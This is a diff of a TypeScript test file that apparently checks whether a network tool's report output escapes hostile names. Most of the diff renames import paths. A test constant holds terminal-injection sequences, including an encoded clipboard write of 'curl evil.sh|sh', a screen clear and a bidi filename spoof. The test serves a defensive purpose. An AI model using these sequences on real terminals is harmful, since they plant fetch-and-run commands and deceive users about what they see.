@@ -18,8 +18,8 @@ import { checksText } from "../lib/doctor/command.ts";
 import { check } from "../lib/doctor/check.ts";
 import { textReport } from "../lib/netcheck/report.ts";
 import { Summary } from "../lib/netcheck/summary.ts";
-import { setupLogging } from "../lib/log.ts";
-import { safeJson } from "../lib/safe_text.ts";
+import { setupLogging } from "../lib/log/setup.ts";
+import { safeJson } from "../lib/text/safe.ts";
 
 /** Clipboard write (OSC 52), clear screen (CSI), C1 CSI, bidi override and isolate, a new row. */
 const PAYLOAD = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2J\u009b8m\u202etxt.exe\u2066\nok  ";
@@ -53,7 +53,7 @@ const POD: Pod = {
 /**
  * The pod's targets as the agent's /targets serves them (lib/agent/start.ts). The rules refuse
  * the annotation's name, and every way the node's network comes in holds it to the same rule
- * (lib/network_name.ts); handed to the rules unchecked here, it shows that the output escapes
+ * (lib/probe/network_name.ts); handed to the rules unchecked here, it shows that the output escapes
  * whatever name reaches it.
  */
 function views(): TargetView[] {
